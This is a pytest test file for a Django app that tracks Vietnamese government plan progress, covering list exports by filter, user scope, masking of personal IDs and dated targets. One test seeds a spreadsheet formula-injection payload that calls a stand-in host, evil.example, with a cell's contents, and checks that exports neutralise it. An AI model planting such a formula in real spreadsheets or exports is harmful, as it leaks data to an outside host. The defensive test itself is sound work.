"""List exports: the page's filters, the user's scope, formats people open."""

from __future__ import annotations

import datetime as dt
import re
from decimal import Decimal
from io import BytesIO
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tiendo.plans.models import Plan
from tiendo.status.selectors import AsOf, Scope, item_statuses, status_summary
from tiendo.testing import make_cast

pytestmark = pytest.mark.django_db


def test_items_export_follows_the_page_filters(sample: Any, client: Client) -> None:
    client.force_login(User.objects.get(username="thuongtruc"))
    plan = Plan.objects.get(number="762/KH-UBND")
    url = reverse("documents:export_items", args=[plan.pk, "xlsx"])
    response = client.get(url, {"ngay": "2024-03-31", "trang_thai": "done"})
    sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).active  # type: ignore[attr-defined]
    assert sheet is not None
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    import datetime as dt

    assert (
        len(rows) == status_summary(Scope(plan=plan), AsOf.make(dt.date(2024, 3, 31))).all.done == 6
    )
    assert {r[6] for r in rows} == {"Hoàn thành"}
    csv_response = client.get(
        reverse("documents:export_items", args=[plan.pk, "csv"]), {"ngay": "2024-03-31"}
    )
    text = b"".join(csv_response.streaming_content).decode("utf-8")  # type: ignore[attr-defined]
    assert text.startswith("\ufeffSố hiệu,Nội dung,Cơ quan chủ trì")
    assert len(text.strip().splitlines()) == 39  # header and 38 models
    assert client.get(reverse("documents:export_items", args=[plan.pk, "pdf"])).status_code == 404


def test_exports_keep_to_the_users_scope(client: Client) -> None:
    cast = make_cast()
    client.force_login(cast.outsider)
    response = client.get(reverse("documents:export_items", args=[cast.plan.pk, "csv"]))
    lines = b"".join(response.streaming_content).decode().strip().splitlines()  # type: ignore[attr-defined]
    assert len(lines) == 2 and cast.other_item.title in lines[1]
    agencies = client.get(reverse("documents:export_agencies", args=["csv"]))
    text = b"".join(agencies.streaming_content).decode()  # type: ignore[attr-defined]
    assert "Sở Y tế" in text and "Việt Nam" not in text


def test_exports_never_carry_a_live_formula_or_a_full_personal_id(client: Client) -> None:
    from tiendo.progress.models import Lifecycle
    from tiendo.progress.services import update_record

    cast = make_cast()
    narrative = '=HYPERLINK("http://evil.example/?"&A2,"Xem") công dân 040190012345'
    update_record(
        item=cast.item,
        valid_on=dt.date(2024, 3, 10),
        state=Lifecycle.IN_PROGRESS,
        narrative=narrative,
        recorded_at=dt.datetime(2024, 3, 10, 9, tzinfo=dt.UTC),
    )
    client.force_login(cast.standing)
    csv_response = client.get(reverse("documents:export_updates", args=[cast.plan.pk, "csv"]))
    csv_text = b"".join(csv_response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    assert "040190012345" not in csv_text
    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text
    response = client.get(reverse("documents:export_updates", args=[cast.plan.pk, "xlsx"]))
    data = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    sheet = load_workbook(BytesIO(data)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    hyperlink = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
    assert hyperlink and all(cell.data_type == "s" for cell in hyperlink), "stored as text"
    assert not any("040190012345" in str(cell.value) for cell in cells)
    assert any("040*******45" in str(cell.value) for cell in cells)


def test_the_list_export_gives_the_rows_of_the_page_it_was_opened_from(
    sample: Any, client: Client
) -> None:
    plan = Plan.objects.get(number="762/KH-UBND")
    client.force_login(User.objects.get(username="thuongtruc"))
    query = {"ngay": "31/03/2024", "trang_thai": "started", "tim": "mo hinh"}
    page = client.get(reverse("dashboard:plan_items", args=[plan.pk]), query)
    found = re.search(r"Tìm thấy (\d+) nhiệm vụ", page.content.decode())
    assert found, "the list states its count"
    response = client.get(reverse("documents:export_items", args=[plan.pk, "csv"]), query)
    lines = b"".join(response.streaming_content).decode("utf-8-sig").strip().splitlines()  # type: ignore[attr-defined]
    assert len(lines) - 1 == int(found.group(1)) > 0


def test_lists_and_exports_show_the_target_in_force_at_the_cut_off_beside_the_original(
    client: Client,
) -> None:
    """A target lowered on 15/5/2024 (recorded that day) is the target of a list at 30/6 and
    of its export, with the original beside it; a cut-off before the decision, or a K before it
    was recorded, still shows the original alone."""
    import csv

    import time_machine

    from tiendo.plans.services import item_change_target
    from tiendo.testing import VN

    cast = make_cast()
    with time_machine.travel(dt.datetime(2024, 5, 15, 10, tzinfo=VN), tick=False):
        item_change_target(
            actor=cast.actor(cast.standing),
            item=cast.item,
            new_target=Decimal("80"),
            reason="Theo Văn bản số 1234/UBND-KGVX",
            decided_on=dt.date(2024, 5, 15),
        )
    client.force_login(cast.standing)

    def exported(query: dict[str, str]) -> dict[str, list[str]]:
        response = client.get(reverse("documents:export_items", args=[cast.plan.pk, "csv"]), query)
        text = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
        header, *rows = list(csv.reader(text.splitlines()))
        at = header.index("Chỉ tiêu ban đầu")
        assert header[at + 1] == "Chỉ tiêu hiện tại"
        return {row[0]: row[at : at + 2] for row in rows}

    code = cast.item.code
    assert exported({"ngay": "30/06/2024"})[code] == ["100.00", "80.00"]
    assert exported({"ngay": "31/03/2024"})[code] == ["100.00", "100.00"]
    # As known the day before the decision was recorded (the engine's K; pages take K with
    # the history issue): the original.
    before = AsOf.make(dt.date(2024, 6, 30), dt.datetime(2024, 5, 14, 12, tzinfo=VN))
    [status] = item_statuses(Scope(item_ids=[cast.item.pk]), before)
    assert status.target_now == Decimal("100")
    page = client.get(reverse("dashboard:plan_items", args=[cast.plan.pk]), {"ngay": "30/06/2024"})
    row = next(r for r in page.context["page"].rows if r.item.pk == cast.item.pk)
    assert (row.target_now, row.item.target) == (Decimal("80"), Decimal("100"))
    assert "ban đầu 100 (đã điều chỉnh)" in page.content.decode()
